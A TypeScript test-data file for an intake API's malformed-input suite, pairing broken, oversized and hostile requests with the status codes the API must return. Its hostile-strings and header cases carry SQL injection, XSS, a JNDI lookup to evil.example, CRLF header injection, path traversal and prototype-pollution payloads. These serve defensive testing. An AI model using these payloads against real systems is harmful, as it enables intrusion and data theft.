/**
 * The requests the malformed-input suite sends, as data: what goes out and what must come back.
 * Statuses and codes are the ones the intake and admin contracts fix (docs/architecture.md, "Intake contract").
 */
import { type LeadView, MAX_BATCH_LEADS, MAX_IDEMPOTENCY_KEY_LENGTH } from '@leadflow/contracts';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { E2E_ADMIN_KEY } from './platform';
import type { HttpExchange } from './raw-http';

const MiB = 1024 * 1024;
const KiB = 1024;
const BOM = '\ufeff';
const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';

/** A stored lead must be readable with its raw body intact; `check` adds what else the case is about. */
export interface Accepted {
  status: 201;
  check?: (lead: LeadView, response: HttpExchange) => void;
}

/** A refusal with its contract code; `kept` is the reason a refused body is kept under (400 invalid_payload). */
export interface Refused {
  status: number;
  code: string;
  kept?: RegExp;
}

type Expectation = Accepted | Refused;

export interface IntakeCase {
  name: string;
  body: Buffer | string;
  /** The Content-Type header; null sends none. */
  contentType?: string | null;
  headers?: Array<[string, string]>;
  expect: Expectation;
}

const accepted = (check?: Accepted['check']): Accepted => ({ status: 201, check });
const refused = (status: number, code: string): Refused => ({ status, code });
const invalidPayload = (kept: RegExp): Refused => ({ status: 400, code: 'invalid_payload', kept });

const MALFORMED_JSON = /^malformed JSON: /;
const NOT_AN_OBJECT = /^body must be a JSON object$/;
const EMPTY_BODY = /^empty body$/;
const NOT_UTF8 = /^body is not valid UTF-8$/;
const TOO_DEEP = /^nested deeper than 32 levels$/;

/** `{"a":{"a":...1...}}` with `depth` objects. */
function nestedObjects(depth: number): string {
  return '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

/** `{"firstName":"<before><bytes><after>"}` with raw bytes that are not UTF-8. */
function withBytes(bytes: number[], before = '{"firstName":"Ana', after = '"}'): Buffer {
  return Buffer.concat([Buffer.from(before, 'utf8'), Buffer.from(bytes), Buffer.from(after, 'utf8')]);
}

/** A JSON object of exactly `size` bytes: one field holding `fill` repeated (or cut) to fit. */
function jsonOfSize(size: number, fill: string): string {
  const frame = '{"description":""}';
  let text = '';
  while (text.length < size - frame.length) text += fill;
  return `{"description":"${text.slice(0, size - frame.length)}"}`;
}

// ---------------------------------------------------------------------------------------------
// Bodies, sent to `POST /api/lead` and `POST /api/v1/leads` alike.

const brokenJson: IntakeCase[] = [
  ['an unterminated object', '{'],
  ['a key without a value', '{"email":'],
  ['an unterminated string', '{"email":"ana@example.com'],
  ['a trailing comma', '{"email":"ana@example.com",}'],
  ['single quotes', "{'email':'ana@example.com'}"],
  ['unquoted keys', '{email:"ana@example.com"}'],
  ['NaN', '{"score":NaN}'],
  ['Infinity', '{"score":Infinity}'],
  ['undefined', '{"score":undefined}'],
  ['a leading zero', '{"score":01}'],
  ['a hexadecimal number', '{"score":0x10}'],
  ['a comment', '{"email":"ana@example.com" /* sent by a CMS */}'],
  ['two objects back to back', '{"a":1}{"b":2}'],
  ['two objects separated by a space', '{"a":1} {"b":2}'],
  ['a stray closing brace', '{"a":1}}'],
  ['a raw control character in a string', '{"firstName":"A\u0001na"}'],
  ['a raw NUL byte in a string', '{"firstName":"A\u0000na"}'],
  ['a raw line break in a string', '{"firstName":"Ana\nSchmidt"}'],
  ['an invalid escape', '{"firstName":"\\x41na"}'],
  ['a short unicode escape', '{"firstName":"\\u41"}'],
  ['unbalanced brackets', '{"tags":[1,2}'],
  ['a lone double quote', '"'],
  ['a closing brace alone', '}'],
  ['JSONP', 'callback({"email":"ana@example.com"})'],
  ['a form body sent as JSON', 'email=ana%40example.com&phone=123'],
  ['10 000 unclosed brackets', '['.repeat(10000)],
].map(([name, body]): IntakeCase => ({ name: `broken JSON: ${name}`, body, expect: invalidPayload(MALFORMED_JSON) }));

const notAnObject: IntakeCase[] = [
  ['an empty array', '[]'],
  ['an array of leads', '[{"email":"ana@example.com"}]'],
  ['a string', '"ana@example.com"'],
  ['a number', '42'],
  ['a negative float', '-1.5e3'],
  ['true', 'true'],
  ['false', 'false'],
  ['null', 'null'],
  ['arrays nested 10 000 deep', '['.repeat(10000) + ']'.repeat(10000)],
].map(([name, body]): IntakeCase => ({ name: `a JSON value that is not an object: ${name}`, body, expect: invalidPayload(NOT_AN_OBJECT) }));

const empty: IntakeCase[] = [
  { name: 'an empty body', body: '', expect: invalidPayload(EMPTY_BODY) },
  { name: 'an empty body without a Content-Type', body: '', contentType: null, expect: invalidPayload(EMPTY_BODY) },
  { name: 'only spaces', body: '   ', expect: invalidPayload(EMPTY_BODY) },
  { name: 'only line breaks and tabs', body: '\r\n\t\r\n', expect: invalidPayload(EMPTY_BODY) },
  { name: 'a byte-order mark alone', body: BOM, expect: invalidPayload(EMPTY_BODY) },
  { name: 'a byte-order mark and whitespace', body: `${BOM} \n`, expect: invalidPayload(EMPTY_BODY) },
  { name: 'an empty form', body: '', contentType: FORM_TYPE, expect: invalidPayload(EMPTY_BODY) },
];

const invalidUtf8: IntakeCase[] = [
  ['a 0xFF byte', withBytes([0xff])],
  ['a stray continuation byte', withBytes([0x80])],
  ['an overlong "/" (C0 AF)', withBytes([0xc0, 0xaf])],
  ['an encoded surrogate (ED A0 80)', withBytes([0xed, 0xa0, 0x80])],
  ['a truncated three-byte sequence', withBytes([0xe2, 0x82])],
  ['a code point above U+10FFFF', withBytes([0xf4, 0x90, 0x80, 0x80])],
  ['a five-byte sequence', withBytes([0xf8, 0x88, 0x80, 0x80, 0x80])],
  ['Latin-1 "é" (E9)', withBytes([0xe9], '{"firstName":"Ren')],
  ['a bad byte in a key', withBytes([0xfe], '{"first', 'Name":"Ana"}')],
  ['a truncated sequence at the very end', withBytes([0xe2], '{"firstName":"Ana"}', '')],
  ['a UTF-16 byte-order mark', withBytes([0xff, 0xfe], '', '{}')],
  ['a whole body in UTF-16LE', Buffer.from(`${BOM}{"firstName":"Ana"}`, 'utf16le')],
].map(([name, body]) => ({ name: `invalid UTF-8: ${String(name)}`, body: body as Buffer, expect: invalidPayload(NOT_UTF8) }));

const invalidUtf8Form: IntakeCase = {
  name: 'invalid UTF-8: a form body with a 0xFF byte',
  body: withBytes([0xff], 'firstName=Ana', '&email=ana%40example.com'),
  contentType: FORM_TYPE,
  expect: invalidPayload(NOT_UTF8),
};

const nesting: IntakeCase[] = [
  { name: 'nesting: 33 levels of objects', body: nestedObjects(33), expect: invalidPayload(TOO_DEEP) },
  { name: 'nesting: 10 000 levels of objects', body: nestedObjects(10000), expect: invalidPayload(TOO_DEEP) },
  { name: 'nesting: 100 000 levels of objects (600 KB, kept truncated)', body: nestedObjects(100000), expect: invalidPayload(TOO_DEEP) },
  {
    name: 'nesting: 10 000 levels of arrays in a field',
    body: `{"tags":${'['.repeat(10000)}${']'.repeat(10000)}}`,
    expect: invalidPayload(TOO_DEEP),
  },
  { name: 'nesting: 32 levels of objects, the deepest allowed', body: nestedObjects(32), expect: accepted() },
];

const sizes: IntakeCase[] = [
  { name: 'size: 1 MiB + 1 byte of valid JSON', body: jsonOfSize(MiB + 1, 'x'), expect: refused(413, 'payload_too_large') },
  { name: 'size: 2 MiB of broken JSON', body: '{"a":"' + 'x'.repeat(2 * MiB), expect: refused(413, 'payload_too_large') },
  {
    name: 'size: 200 KB of broken JSON (kept, truncated)',
    body: '{"description":"' + 'x'.repeat(200 * KiB),
    expect: invalidPayload(MALFORMED_JSON),
  },
  { name: 'size: exactly 1 MiB of valid JSON', body: jsonOfSize(MiB, 'Ana Schmidt '), expect: accepted() },
  // Random text hardly compresses: up to 700 KB travels to ingestion; near 1 MiB it exceeds one NATS
  // message and is refused with 413 (a known limit, in the README).
  {
    name: 'size: 700 KB of valid JSON that does not compress',
    body: jsonOfSize(700 * 1024, randomBytes(MiB).toString('base64')),
    expect: accepted(),
  },
  {
    name: 'size: 1 MiB - 16 bytes of valid JSON that does not compress',
    body: jsonOfSize(MiB - 16, randomBytes(MiB).toString('base64')),
    expect: refused(413, 'payload_too_large'),
  },
];

const contentTypes: IntakeCase[] = [
  ...[
    'text/plain',
    'text/html',
    'application/xml',
    'application/octet-stream',
    'multipart/form-data; boundary=x',
    'application/json; charset=latin1',
    'application/json; charset=iso-8859-1',
    'application/json; charset=utf-16',
    'application/json, text/plain',
    'application/json/extra',
    'application/',
    '/json',
    'json',
    '*/*',
    ';;;///',
    'application/json\u00e9',
  ].map((contentType): IntakeCase => ({
    name: `Content-Type ${JSON.stringify(contentType)}`,
    body: '{"email":"ana@example.com"}',
    contentType,
    expect: refused(415, 'unsupported_media_type'),
  })),
  ...[
    'application/json; charset="UTF-8"',
    'application/json;charset=utf8',
    'APPLICATION/JSON',
    'application/json; foo=bar',
    'text/json',
    'application/vnd.api+json',
  ].map((contentType): IntakeCase => ({
    name: `Content-Type ${JSON.stringify(contentType)}`,
    body: '{"email":"ana@example.com"}',
    contentType,
    expect: accepted(),
  })),
  { name: 'no Content-Type, a JSON body', body: '{"email":"ana@example.com"}', contentType: null, expect: accepted() },
  { name: 'no Content-Type, broken JSON', body: '{"email":', contentType: null, expect: invalidPayload(MALFORMED_JSON) },
  {
    name: 'two Content-Type headers, JSON first (the first one counts)',
    body: '{"email":"ana@example.com"}',
    contentType: null,
    headers: [
      ['Content-Type', JSON_TYPE],
      ['Content-Type', 'text/plain'],
    ],
    expect: accepted(),
  },
  {
    name: 'two Content-Type headers, text first (the first one counts)',
    body: '{"email":"ana@example.com"}',
    contentType: null,
    headers: [
      ['Content-Type', 'text/plain'],
      ['Content-Type', JSON_TYPE],
    ],
    expect: refused(415, 'unsupported_media_type'),
  },
  // A JSON media type with a long parameter is still JSON.
  {
    name: 'a 1 200-character JSON Content-Type',
    body: '{"email":"ana@example.com"}',
    contentType: `${JSON_TYPE}; x=${'a'.repeat(1200)}`,
    expect: accepted(),
  },
  { name: 'a form with broken percent-encoding', body: '%%%=%ZZ&&=&email=%E2%82&x=%', contentType: FORM_TYPE, expect: accepted() },
  {
    name: 'a form with NUL, a lone surrogate and prototype keys',
    body: 'email=%00&__proto__=x&constructor=y&a=%ED%A0%80&a=2',
    contentType: FORM_TYPE,
    expect: accepted(),
  },
  { name: 'a JSON body sent as a form', body: '{"email":"ana@example.com"}', contentType: FORM_TYPE, expect: accepted() },
];

// ---------------------------------------------------------------------------------------------
// Headers.

const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
const lead = '{"email":"ana@example.com","firstName":"Ana"}';

/** A hostile request id never comes back: the gateway answers with one it generated. */
function requestIdGenerated(_view: LeadView, response: HttpExchange): void {
  expect(response.headers['x-request-id']).toMatch(uuid);
}

function keyIs(expected: string): Accepted['check'] {
  return (view) => expect(view.idempotencyKey).toBe(expected);
}

const headerCases: IntakeCase[] = [
  {
    name: `an Idempotency-Key of ${MAX_IDEMPOTENCY_KEY_LENGTH + 1} characters`,
    body: lead,
    headers: [['Idempotency-Key', 'k'.repeat(MAX_IDEMPOTENCY_KEY_LENGTH + 1)]],
    expect: refused(400, 'invalid_idempotency_key'),
  },
  {
    name: 'an Idempotency-Key of 8 KB',
    body: lead,
    headers: [['Idempotency-Key', 'k'.repeat(8 * KiB)]],
    expect: refused(400, 'invalid_idempotency_key'),
  },
  { name: 'an empty Idempotency-Key', body: lead, headers: [['Idempotency-Key', '']], expect: refused(400, 'invalid_idempotency_key') },
  { name: 'a blank Idempotency-Key', body: lead, headers: [['Idempotency-Key', '   ']], expect: refused(400, 'invalid_idempotency_key') },
  {
    name: 'an Idempotency-Key with a bad key and broken JSON (the key is judged first)',
    body: '{',
    headers: [['Idempotency-Key', '']],
    expect: refused(400, 'invalid_idempotency_key'),
  },
  {
    name: `an Idempotency-Key of exactly ${MAX_IDEMPOTENCY_KEY_LENGTH} characters`,
    body: lead,
    headers: [['Idempotency-Key', `max-${'k'.repeat(MAX_IDEMPOTENCY_KEY_LENGTH - 4)}`]],
    expect: accepted((view) => expect(view.idempotencyKey).toHaveLength(MAX_IDEMPOTENCY_KEY_LENGTH)),
  },
  // Header bytes are Latin-1 on the wire; the key is kept as the gateway decoded it.
  {
    name: 'an Idempotency-Key with Latin-1 bytes',
    body: lead,
    headers: [['Idempotency-Key', 'caf\u00e9-\u00ff-latin1']],
    expect: accepted(keyIs('caf\u00e9-\u00ff-latin1')),
  },
  {
    name: 'two Idempotency-Key headers (joined)',
    body: lead,
    headers: [
      ['Idempotency-Key', 'twice-a'],
      ['Idempotency-Key', 'twice-b'],
    ],
    expect: accepted(keyIs('twice-a, twice-b')),
  },
  {
    name: 'an SQL-ish Idempotency-Key',
    body: lead,
    headers: [['Idempotency-Key', "k'; DROP TABLE ingestion.raw_leads; --"]],
    expect: accepted(keyIs("k'; DROP TABLE ingestion.raw_leads; --")),
  },
  ...[
    ['300 characters', 'r'.repeat(300)],
    ['8 KB', 'r'.repeat(8 * KiB)],
    ['HTML', '<script>alert(1)</script>'],
    ['spaces and quotes', 'a b "c" \'d\''],
    ['Latin-1 bytes', 'caf\u00e9'],
    ['a log-line forgery', 'x","level":"fatal","msg":"forged'],
  ].map(([name, requestId]): IntakeCase => ({
    name: `an X-Request-Id of ${name} (replaced by a generated one)`,
    body: lead,
    headers: [['X-Request-Id', requestId]],
    expect: accepted(requestIdGenerated),
  })),
  {
    name: 'two X-Request-Id headers (replaced by a generated one)',
    body: lead,
    headers: [
      ['X-Request-Id', 'first'],
      ['X-Request-Id', 'second'],
    ],
    expect: accepted(requestIdGenerated),
  },
  {
    name: 'Content-Encoding: gzip with a gzipped body (not decoded; kept)',
    body: gzipSync(Buffer.from(lead)),
    headers: [['Content-Encoding', 'gzip']],
    expect: invalidPayload(NOT_UTF8),
  },
  // The gateway does not decode bodies: one that parses as sent is stored as sent, its header kept beside it.
  {
    name: 'Content-Encoding: gzip with a plain body (stored as sent)',
    body: lead,
    headers: [['Content-Encoding', 'gzip']],
    expect: accepted((view) => expect(view.raw.headers['content-encoding']).toBe('gzip')),
  },
  { name: 'an unknown Content-Encoding (stored as sent)', body: lead, headers: [['Content-Encoding', 'x-rot13']], expect: accepted() },
  { name: 'Transfer-Encoding: chunked', body: lead, headers: [['Transfer-Encoding', 'chunked']], expect: accepted() },
  { name: 'Expect: 100-continue', body: lead, headers: [['Expect', '100-continue']], expect: accepted() },
  {
    name: 'Accept: text/html on a refusal (still JSON)',
    body: '{',
    headers: [['Accept', 'text/html']],
    expect: invalidPayload(MALFORMED_JSON),
  },
  {
    name: 'a 1 000-character User-Agent, Referer and X-Forwarded-For',
    body: lead,
    headers: [
      ['User-Agent', 'u'.repeat(1000)],
      ['Referer', `https://example.com/${'r'.repeat(1000)}`],
      ['X-Forwarded-For', Array.from({ length: 60 }, (_, i) => `203.0.113.${i}`).join(', ')],
    ],
    expect: accepted(),
  },
];

// ---------------------------------------------------------------------------------------------
// Fields of the wrong type and hostile strings: all stored (normalization never rejects), all readable.

/** The fields the intake contract names, with the key of their normalized value. */
const KNOWN_FIELDS = {
  click_id: 'clickId',
  country: 'country',
  creo: 'creo',
  description: 'description',
  domain: 'domain',
  email: 'email',
  firstName: 'firstName',
  lastName: 'lastName',
  ip: 'ip',
  lang: 'language',
  marker: 'marker',
  offer: 'offer',
  phone: 'phone',
  sourcetype: 'sourcetype',
} as const;

function everyField(value: unknown): string {
  return JSON.stringify(Object.fromEntries(Object.keys(KNOWN_FIELDS).map((field) => [field, value])));
}

function normalizedValues(view: LeadView): unknown[] {
  return Object.values(KNOWN_FIELDS).map((key) => view.normalized[key]);
}

/** A value that is not text is dropped from every field, and each drop is listed. */
function droppedEverywhere(view: LeadView): void {
  expect(normalizedValues(view)).toEqual(Object.values(KNOWN_FIELDS).map(() => null));
  expect(view.normalized.issues.filter((issue) => issue.reason === 'expected a string').map((issue) => issue.field)).toEqual(
    expect.arrayContaining(Object.keys(KNOWN_FIELDS)),
  );
}

function absentEverywhere(view: LeadView): void {
  expect(normalizedValues(view)).toEqual(Object.values(KNOWN_FIELDS).map(() => null));
  expect(view.normalized.issues).toEqual([]);
}

const wrongTypes: IntakeCase[] = [
  ['numbers', 12345, (view: LeadView) => expect(view.normalized.offer).toBe('12345')],
  ['floats', 3.14, (view: LeadView) => expect(view.normalized.marker).toBe('3.14')],
  ['huge numbers', 1e308, (view: LeadView) => expect(view.normalized.offer).toBe('1e+308')],
  ['arrays', ['ana@example.com', 1], droppedEverywhere],
  ['empty arrays', [], droppedEverywhere],
  ['objects', { value: 'ana@example.com' }, droppedEverywhere],
  ['empty objects', {}, droppedEverywhere],
  ['true', true, droppedEverywhere],
  ['false', false, droppedEverywhere],
  ['objects nested 31 deep', JSON.parse(nestedObjects(30)) as unknown, droppedEverywhere],
  ['null', null, absentEverywhere],
  ['empty strings', '', absentEverywhere],
  ['blank strings', ' \t\n ', absentEverywhere],
].map(([name, value, check]) => ({
  name: `every known field as ${String(name)}`,
  body: everyField(value),
  expect: accepted(check as Accepted['check']),
}));

// Node 20 has String.prototype.isWellFormed, but the workspace compiles against the ES2022 lib.
type WellFormable = string & { isWellFormed(): boolean };

/** NUL and lone surrogates, which PostgreSQL cannot store, never reach a normalized field. */
function storableText(view: LeadView): void {
  const unstorable = normalizedValues(view).filter(
    (value) => typeof value === 'string' && (value.includes('\u0000') || !(value as WellFormable).isWellFormed()),
  );
  expect(unstorable).toEqual([]);
}

const HOSTILE_STRINGS: Array<[string, string]> = [
  ['a NUL character', 'A\u0000na'],
  ['only NUL', '\u0000'],
  ['a lone high surrogate', 'A\ud800na'],
  ['a lone low surrogate', '\udfff'],
  ['a reversed surrogate pair', '\udc00\ud800'],
  ['right-to-left overrides', '\u202eexe.\u202dtxt'],
  ['zero-width characters and a BOM', '\u200b\u200c\u200d\ufeff'],
  ['astral and combining characters', '\u{1F600} Z\u0337\u0321\u031ba\u0336l\u0338g\u0335o\u0334'],
  ['an SQL injection', "'; DROP TABLE ingestion.leads; --"],
  ['an SQL tautology', '" OR ""=" OR 1=1 --'],
  ['SQL placeholders', '$1 $2 ? :name %s'],
  ['quotes and backslashes', '\\"\\\\\'`'],
  ['a script tag', '<script>alert(document.cookie)</script>'],
  ['an HTML attribute breakout', '"><img src=x onerror=alert(1)>'],
  ['template and lookup injections', '${jndi:ldap://evil.example/a} {{7*7}} #{7*7} %n%x'],
  ['a CRLF header injection', 'a\r\nSet-Cookie: owned=1\r\n\r\n'],
  ['ANSI escapes and DEL', '\u0001\u0007\u001b[31mred\u007f'],
  ['a JSON document as text', '{"email":"other@example.com"}'],
  ['an internationalized email', '\u00c4NA@\u00c9XAMPLE.\u4e2d\u56fd'],
  ['a path traversal', '../../../../etc/passwd'],
];

const hostileStrings: IntakeCase[] = [
  ...HOSTILE_STRINGS.map(([name, value]): IntakeCase => {
    const payload = Object.fromEntries([...Object.keys(KNOWN_FIELDS).map((field) => [field, value]), [value, value]]);
    return { name: `hostile strings in every field and as a key: ${name}`, body: JSON.stringify(payload), expect: accepted(storableText) };
  }),
  {
    name: 'hostile strings: 100 KB in three fields and as a key',
    body: JSON.stringify({ firstName: 'x'.repeat(100 * KiB), description: 'y'.repeat(100 * KiB), ['k'.repeat(100 * KiB)]: 'z' }),
    expect: accepted((view) => expect(view.normalized.firstName).toHaveLength(500)),
  },
  {
    name: 'hostile keys: __proto__',
    body: '{"__proto__":{"isAdmin":true},"email":"ana@example.com"}',
    expect: accepted((view) =>
      expect(Object.getOwnPropertyDescriptor(view.normalized.extra, '__proto__')?.value).toEqual({ isAdmin: true }),
    ),
  },
  {
    name: 'hostile keys: constructor.prototype',
    body: '{"constructor":{"prototype":{"polluted":true}},"email":"ana@example.com"}',
    expect: accepted((view) => expect(view.normalized.extra.constructor).toEqual({ prototype: { polluted: true } })),
  },
  {
    name: 'hostile keys: toJSON, toString, valueOf, hasOwnProperty',
    body: '{"toJSON":"x","toString":"y","valueOf":1,"hasOwnProperty":null}',
    expect: accepted(),
  },
  { name: 'hostile keys: an empty key', body: '{"":"empty"}', expect: accepted() },
  {
    name: 'hostile keys: the same key twice',
    body: '{"email":"first@example.com","email":"second@example.com"}',
    expect: accepted((view) => expect(view.normalized.email).toBe('second@example.com')),
  },
  {
    name: 'hostile keys: 10 000 keys',
    body: JSON.stringify(Object.fromEntries(Array.from({ length: 10000 }, (_, i) => [`k${i}`, i]))),
    expect: accepted((view) => expect(Object.keys(view.normalized.extra)).toHaveLength(10000)),
  },
  {
    name: 'numbers at the edges of JSON',
    body: '{"phone":1e400,"offer":-0,"marker":1e-400,"click_id":9007199254740993,"creo":123456789012345678901234567890,"x":-1e400}',
    expect: accepted(),
  },
  { name: 'a byte-order mark before a valid object', body: `${BOM}{"email":"ana@example.com"}`, expect: accepted() },
];

export const intakeCases: IntakeCase[] = [
  ...brokenJson,
  ...notAnObject,
  ...empty,
  ...invalidUtf8,
  invalidUtf8Form,
  ...nesting,
  ...sizes,
  ...contentTypes,
  ...headerCases,
  ...wrongTypes,
  ...hostileStrings,
];

// ---------------------------------------------------------------------------------------------
// `POST /api/v1/leads/batch`.

export interface BatchCase {
  name: string;
  body: Buffer | string;
  contentType?: string | null;
  /** 207 with these item statuses (and codes), or a refusal of the whole batch. */
  expect: { status: 207; items: Array<201 | [number, string]> } | Refused;
}

const item = (leadBody: unknown, idempotencyKey?: unknown) => ({
  lead: leadBody,
  ...(idempotencyKey === undefined ? {} : { idempotencyKey }),
});
const batchOf = (...items: unknown[]) => JSON.stringify({ leads: items });
const INVALID_ITEM: [number, string] = [400, 'invalid_payload'];
const NOT_A_BATCH = /^expected \{"leads": \[/;

export const batchCases: BatchCase[] = [
  { name: 'broken JSON', body: '{"leads":[', expect: invalidPayload(MALFORMED_JSON) },
  { name: 'an empty body', body: '', expect: invalidPayload(EMPTY_BODY) },
  { name: 'invalid UTF-8', body: withBytes([0xff], '{"leads":[{"lead":{"firstName":"A', '"}}]}'), expect: invalidPayload(NOT_UTF8) },
  { name: 'a top-level array', body: '[{"lead":{}}]', expect: invalidPayload(NOT_AN_OBJECT) },
  { name: 'no leads field', body: '{}', expect: invalidPayload(NOT_A_BATCH) },
  { name: 'an empty leads array', body: '{"leads":[]}', expect: invalidPayload(NOT_A_BATCH) },
  { name: 'leads as an object', body: '{"leads":{"lead":{}}}', expect: invalidPayload(NOT_A_BATCH) },
  { name: 'leads as a string', body: '{"leads":"[]"}', expect: invalidPayload(NOT_A_BATCH) },
  { name: 'leads as null', body: '{"leads":null}', expect: invalidPayload(NOT_A_BATCH) },
  { name: 'nested 10 000 deep', body: `{"leads":[${nestedObjects(10000)}]}`, expect: invalidPayload(TOO_DEEP) },
  {
    name: `${MAX_BATCH_LEADS + 1} items`,
    body: batchOf(...Array.from({ length: MAX_BATCH_LEADS + 1 }, () => item({}))),
    expect: refused(400, 'batch_too_large'),
  },
  { name: '20 000 items', body: `{"leads":[${Array(20000).fill('1').join(',')}]}`, expect: refused(400, 'batch_too_large') },
  { name: 'a form body', body: 'leads=1', contentType: FORM_TYPE, expect: refused(415, 'unsupported_media_type') },
  { name: 'text/plain', body: batchOf(item({})), contentType: 'text/plain', expect: refused(415, 'unsupported_media_type') },
  {
    name: 'Content-Type with charset=latin1',
    body: batchOf(item({})),
    contentType: 'application/json; charset=latin1',
    expect: refused(415, 'unsupported_media_type'),
  },
  {
    name: 'no Content-Type (read as JSON)',
    body: batchOf(item({ email: 'ana@example.com' })),
    contentType: null,
    expect: { status: 207, items: [201] },
  },
  {
    name: 'items of every wrong shape',
    body: batchOf(
      1,
      null,
      'lead',
      [],
      {},
      item([]),
      item(null),
      item('{"email":"a@b.co"}'),
      item({}, 5),
      item({}, ''),
      item({}, 'k'.repeat(MAX_IDEMPOTENCY_KEY_LENGTH + 1)),
      item({}, { key: 1 }),
      item({}, ['k']),
    ),
    expect: { status: 207, items: Array(13).fill(INVALID_ITEM) },
  },
  {
    name: 'hostile leads among invalid items',
    body: batchOf(
      item({ email: '\u0000\ud800', firstName: '<script>', ['__proto__']: 'x' }),
      2,
      item({ constructor: { prototype: { polluted: true } } }, "k'; DROP TABLE x; --"),
      item(JSON.parse(nestedObjects(29)) as unknown),
      item({ phone: [], country: {}, lang: true, ip: null }),
    ),
    expect: { status: 207, items: [201, INVALID_ITEM, 201, 201, 201] },
  },
  {
    name: 'one key twice in a batch: same lead, then a different one',
    body: batchOf(
      item({ email: 'ana@example.com' }, 'batch-twice'),
      item({ email: 'ana@example.com' }, 'batch-twice'),
      item({ email: 'bob@example.com' }, 'batch-twice'),
    ),
    expect: { status: 207, items: [201, 201, [422, 'idempotency_key_reused']] },
  },
  {
    name: `exactly ${MAX_BATCH_LEADS} items of wrong types`,
    body: batchOf(...Array.from({ length: MAX_BATCH_LEADS }, (_, i) => item({ email: [i], phone: { i }, country: i, ip: true }))),
    expect: { status: 207, items: Array(MAX_BATCH_LEADS).fill(201) },
  },
];

// ---------------------------------------------------------------------------------------------
// Methods the intake routes do not answer.

export interface MethodCase {
  method: string;
  path: string;
}

export const methodCases: MethodCase[] = [
  ...['GET', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND'].map((method) => ({ method, path: '/api/lead' })),
  ...['PUT', 'PATCH', 'DELETE'].map((method) => ({ method, path: '/api/v1/leads' })),
  ...['PUT', 'PATCH', 'DELETE'].map((method) => ({ method, path: '/api/v1/leads/batch' })),
  { method: 'POST', path: '/api/lead/' },
  { method: 'POST', path: '//api//lead' },
  { method: 'POST', path: '/API/LEAD' },
  { method: 'POST', path: '/api/lead%00' },
  { method: 'POST', path: `/api/${'x'.repeat(8 * KiB)}` },
];

// ---------------------------------------------------------------------------------------------
// Admin routes: query strings, ids and credentials.

export interface AdminCase {
  name: string;
  path: string;
  /** The Authorization header values; the admin key when absent. */
  authorization?: string[];
  /** An error status and code, or 200 for a query that is odd but valid (it must still never fail). */
  expect: Refused | { status: 200 };
}

const SQL = encodeURIComponent("x' OR '1'='1'; DROP TABLE ingestion.leads; --");
const NUL = '%00';
const answered = { status: 200 } as const;
const invalidQuery = refused(400, 'invalid_query');
const invalidCursor = refused(400, 'invalid_cursor');
const invalidId = refused(400, 'invalid_id');
const notFound = refused(404, 'not_found');
const unauthorized = refused(401, 'unauthorized');
const UNKNOWN_UUID = '00000000-0000-7000-8000-000000000000';
const REPORTS = ['summary', 'daily', 'weekly'].map((report) => `/api/v1/metrics/leads/${report}`);
const RANGE = 'from=2026-02-01&to=2026-02-28';

/** Bad page parameters, for every list. */
function pageCases(list: string): AdminCase[] {
  return [
    ['limit=0', invalidQuery],
    ['limit=-1', invalidQuery],
    ['limit=201', invalidQuery],
    ['limit=1e9', invalidQuery],
    ['limit=99999999999999999999999', invalidQuery],
    ['limit=abc', invalidQuery],
    ['limit=', invalidQuery],
    ['limit=1.5', invalidQuery],
    ['limit=NaN', invalidQuery],
    ['limit=Infinity', invalidQuery],
    ['limit=1&limit=2', invalidQuery],
    ['limit[]=1', invalidQuery],
    ['limit[$gt]=1', invalidQuery],
    ['cursor=abc', invalidCursor],
    ['cursor=' + 'a'.repeat(65), invalidQuery],
    ['cursor=' + Buffer.from('not a uuid').toString('base64url'), invalidCursor],
    ['cursor=' + Buffer.from('FFFFFFFF-FFFF-7FFF-BFFF-FFFFFFFFFFFF').toString('base64url'), invalidCursor],
    ['cursor=' + NUL, invalidQuery],
    ['cursor=' + SQL, invalidCursor],
    ['cursor=a&cursor=b', invalidQuery],
    ['unknown=1', invalidQuery],
    ['__proto__=1', invalidQuery],
    ['constructor=1', invalidQuery],
    ['toString=1', invalidQuery],
    ['hasOwnProperty=1', invalidQuery],
    [`${'p'.repeat(4000)}=1`, invalidQuery],
  ].map(([query, expected]) => ({
    name: `${list}?${String(query).slice(0, 60)}`,
    path: `${list}?${String(query)}`,
    expect: expected as Refused,
  }));
}

/** A filter that must be refused or answered, never fail. Long paths are named by their ends. */
function filterCase(path: string, expected: AdminCase['expect']): AdminCase {
  const name = path.length > 100 ? `${path.slice(0, 60)}…(${path.length} characters)…${path.slice(-20)}` : path;
  return { name, path, expect: expected };
}

export const adminCases: AdminCase[] = [
  // Credentials.
  ...[
    '/api/v1/leads',
    `/api/v1/leads/${UNKNOWN_UUID}`,
    '/api/v1/contacts',
    `/api/v1/contacts/${UNKNOWN_UUID}/score`,
    `${REPORTS[0]}?${RANGE}`,
  ].flatMap((path): AdminCase[] => [
    { name: `${path} without a key`, path, authorization: [], expect: unauthorized },
    { name: `${path} with a wrong key`, path, authorization: [`Bearer ${E2E_ADMIN_KEY.slice(0, -1)}1`], expect: unauthorized },
  ]),
  ...[
    ['an empty Bearer', 'Bearer '],
    ['Basic credentials', `Basic ${Buffer.from(`admin:${E2E_ADMIN_KEY}`).toString('base64')}`],
    ['the key without a scheme', E2E_ADMIN_KEY],
    ['the key and more', `Bearer ${E2E_ADMIN_KEY} extra`],
    ['a key prefix', `Bearer ${E2E_ADMIN_KEY.slice(0, -1)}`],
    ['the key with one more character', `Bearer ${E2E_ADMIN_KEY}0`],
    ['the key in upper case', `Bearer ${E2E_ADMIN_KEY.toUpperCase()}`],
    ['an 8 KB key', `Bearer ${'k'.repeat(8 * KiB)}`],
    ['Latin-1 bytes', `Bearer ${E2E_ADMIN_KEY.slice(0, -1)}\u00e9`],
  ].map(([name, authorization]): AdminCase => ({
    name: `/api/v1/leads with ${name}`,
    path: '/api/v1/leads',
    authorization: [authorization],
    expect: unauthorized,
  })),
  {
    name: '/api/v1/leads with a wrong key before the right one',
    path: '/api/v1/leads',
    authorization: ['Bearer nope', `Bearer ${E2E_ADMIN_KEY}`],
    expect: unauthorized,
  },
  {
    name: '/api/v1/leads with a wrong key and a bad query (the key is judged first)',
    path: '/api/v1/leads?limit=abc',
    authorization: ['Bearer nope'],
    expect: unauthorized,
  },

  // Leads.
